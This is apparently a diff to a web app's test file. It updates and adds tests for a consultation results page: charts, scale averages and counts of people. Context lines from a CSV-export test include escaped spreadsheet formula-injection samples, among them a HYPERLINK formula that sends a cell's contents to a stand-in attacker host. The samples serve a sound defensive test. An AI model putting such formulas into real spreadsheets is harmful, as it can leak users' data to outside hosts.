@@ -82,8 +82,8 @@ def test_results_page_has_svg_charts_with_tables_beside_them_and_a_trend(client)
     assert html.count('<svg class="chart"') == 4  # three questions with options, and the trend
     assert '<table class="counts">' in html
     text = text_of(page)
-    assert "Saturday 1 100.0" in text
-    assert "Answers over time" in text and "New answers" in text
+    assert "Saturday 1 100.0%" in text
+    assert "People taking part over time" in text and "People who first answered" in text
     assert "Written answers are shown to officers only." in text
     assert "Export CSV" not in text
 
@@ -238,3 +238,18 @@ def test_a_csv_export_runs_no_formula_in_any_spreadsheet_and_hides_nothing(clien
     assert 'ok;\'=HYPERLINK("http://evil.example/?"&A1, "click")' in answers
     assert "fine,' +SUM(A1:A9)" in answers and "line one\n'-2+3" in answers
     assert "'=1+1" in answers and "evil.exe reversed" in answers
+
+
+def test_a_scale_shows_its_end_labels_and_average_and_every_figure_counts_people(client):
+    sign_in(client, make_user(Role.OFFICER))
+    c = make_consultation()
+    for uid, option in (("1", 0), ("2", 1), ("3", 1), ("4", 2)):  # scale values 2, 3, 3, 4
+        _answer(c, uid, band=None, option=option)
+    page = client.get(f"/staff/consultations/{c.id}/results")
+    text = text_of(page)
+    assert "Average score 3.0 out of 5 (1 is “Not at all”, 5 is “A lot”)." in text
+    assert "1 – Not at all 0 0.0%" in text and "5 – A lot 0 0.0%" in text
+    assert "4 people answered" in text and "4 answers" not in text
+    # The day-by-day figures are people too, so they add up to who took part.
+    assert "People who first answered" in text
+    assert text.endswith("People who first answered " + now().strftime("%-d %B %Y") + " 4")
